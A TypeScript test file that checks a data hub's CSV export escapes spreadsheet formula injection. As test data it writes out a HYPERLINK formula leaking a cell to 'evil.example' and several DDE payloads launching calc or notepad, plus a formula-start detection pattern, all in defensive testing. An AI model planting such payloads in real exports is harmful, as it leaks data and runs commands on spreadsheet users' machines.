import { spawnSync, SpawnSyncReturns } from 'node:child_process';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { getOrInsert } from '../../src/collections';
import { toCsv } from '../../src/export/format';
import { encodeGlobalId } from '../../src/graphql/relay';
import { Role } from '../../src/modules/auth/roles';
import { OutcomeMeasure, SendStatus } from '../../src/modules/child/child.enums';
import { projectRoot } from '../../src/paths';
import { UpdateAgencyDocument, UpdateYotDocument } from '../generated/graphql';
import { addChildren } from '../support/fixtures';
import { startTestHub, TestHub } from '../support/hub';

const CLI = join(projectRoot(), 'dist', 'src', 'export', 'cli.js');
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open report")';
const CALC = "+cmd|' /C calc'!A0";
const AT = "@SUM(1+1)*cmd|' /C calc'!A0";
const MINUS = "-2+3+cmd|' /C notepad'!A0";
/** Harmless at the start, but a spreadsheet splitting on ';' would start a cell with '=' unless the cell is quoted. */
const SEMICOLON = "Barnet;=cmd|' /C calc'!A0";

/** First characters a spreadsheet takes as the start of a formula (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('exports that cannot attack a spreadsheet', () => {
  let hub: TestHub;
  beforeAll(async () => {
    hub = await startTestHub();
    const barnet = Number((await hub.dataSource.query(`SELECT id FROM yot WHERE code = 'E09000003'`))[0].id);
    // As the issue saw it: a YOT manager renames its own YOT and region through the API.
    const manager = { name: 'barnet manager', role: Role.YOT_MANAGER, yotId: barnet, agencyId: null };
    const renamed = await hub.exec(
      UpdateYotDocument,
      { input: { id: encodeGlobalId('Yot', barnet), expectedVersion: 1, name: HYPERLINK, region: CALC } },
      manager,
    );
    expect(renamed.errors).toBeUndefined();
    // Agency names reach the gaps' messages ("… is not party to a current information-sharing agreement").
    for (const [name, to] of [
      ['Metropolitan Police Service', AT],
      ['Barnet Virtual School', MINUS],
      ['Probation Service (London)', SEMICOLON],
    ]) {
      const [row] = await hub.dataSource.query(`SELECT id, version FROM agency WHERE name = '${name}'`);
      const updated = await hub.exec(UpdateAgencyDocument, {
        input: { id: encodeGlobalId('Agency', Number(row.id)), expectedVersion: Number(row.version), name: to },
      });
      expect(updated.errors).toBeUndefined();
    }
    await addChildren(
      hub.dataSource,
      'E09000003',
      Array.from({ length: 40 }, (_, i) => ({
        ref: `CSV-${i}`,
        sendStatus: SendStatus.EHCP,
        outcomes: [{ measure: OutcomeMeasure.SUITABLE_ETE, met: i < 20, period: '2025-Q1' }],
      })),
    );
  });
  afterAll(() => hub.close());

  // Nothing writes after beforeAll, so each view is exported once (as a process, as deployed) and read by every test.
  const outputs = new Map<string, SpawnSyncReturns<string>>();
  const run = (...args: string[]) =>
    getOrInsert(outputs, args.join(' '), () =>
      spawnSync(process.execPath, [CLI, ...args], {
        env: { ...process.env, DATABASE_URL: hub.url, LOG_LEVEL: 'silent' },
        encoding: 'utf8',
      }),
    );
  const cells = (text: string) => parse(text, { bom: true }).flat();

  it('writes no CSV cell a spreadsheet would evaluate, in any view', () => {
    for (const view of ['coverage', 'criteria', 'gaps', 'outcomes']) {
      const result = run(view);
      expect(result.status, view).toBe(0);
      const dangerous = cells(result.stdout).filter((cell) => FORMULA_START.test(cell));
      expect(dangerous, view).toEqual([]);
    }
  }, 180_000);

  it('keeps the text readable: a leading quote, then the value as it was', () => {
    const coverage = parse<Record<string, string>>(run('coverage').stdout, { bom: true, columns: true });
    expect(coverage.find((r) => r.yotCode === 'E09000003')).toMatchObject({
      yotName: `'${HYPERLINK}`,
      region: `'${CALC}`,
    });
    const gaps = parse<Record<string, string>>(run('gaps').stdout, { bom: true, columns: true });
    const messages = gaps.map((g) => g.message);
    expect(messages.some((m) => m.startsWith(`'${AT}`))).toBe(true);
    expect(messages.some((m) => m.startsWith(`'${MINUS}`))).toBe(true);
    const outcomes = parse<Record<string, string>>(run('outcomes').stdout, { bom: true, columns: true });
    // The export runs as an analyst, so counts are perturbed (at most ±2, see Disclosure control): 40 and 20 are
    // large enough to be published; the region keeps its neutralised text.
    const row = outcomes.find((r) => r.measure === 'SUITABLE_ETE' && r.period === '2025-Q1');
    expect(row).toMatchObject({ region: `'${CALC}`, suppressed: 'false' });
    expect(Math.abs(Number(row!.cohort) - 40)).toBeLessThanOrEqual(2);
    expect(Math.abs(Number(row!.met) - 20)).toBeLessThanOrEqual(2);
  }, 180_000);

  it("quotes every text cell, so a ';'-splitting spreadsheet cannot start a cell with '='", () => {
    for (const view of ['coverage', 'criteria', 'gaps', 'outcomes']) {
      const lines = run(view)
        .stdout.replace(/^\uFEFF/, '')
        .split('\r\n')
        .filter(Boolean);
      // Split each record the way a ';'-locale spreadsheet reads unquoted text: on ',' outside quotes, then every
      // unquoted field on ';'. Every text field is quoted, so no piece outside quotes may start a formula.
      for (const line of lines) {
        const unquoted = line.replace(/"(?:[^"]|"")*"/g, '""');
        const pieces = unquoted.split(/[,;]/);
        expect(
          pieces.filter((piece) => FORMULA_START.test(piece)),
          `${view}: ${line}`,
        ).toEqual([]);
      }
    }
    const gaps = run('gaps').stdout;
    expect(gaps).toContain(`"${SEMICOLON} is not party to a current information-sharing agreement."`);
    const messages = parse<Record<string, string>>(gaps, { bom: true, columns: true }).map((g) => g.message);
    expect(messages).toContain(`${SEMICOLON} is not party to a current information-sharing agreement.`);
  }, 180_000);

  it('leaves JSON exports as they are', () => {
    const rows = JSON.parse(run('coverage', '--format', 'json').stdout) as {
      yotCode: string;
      yotName: string;
      region: string;
    }[];
    expect(rows.find((r) => r.yotCode === 'E09000003')).toMatchObject({ yotName: HYPERLINK, region: CALC });
  });

  it('escapes text cells only: numbers, negative ones included, stay numbers', () => {
    const text = toCsv([
      { rate: -0.25, count: -3, label: '-0.25', tab: '\tx', cr: '\rx', plain: 'Knowsley', inner: 'a=b' },
    ]);
    expect(text.split('\r\n')[1]).toBe(`-0.25,-3,"'-0.25","'\tx","'\rx","Knowsley","a=b"`);
  });
});
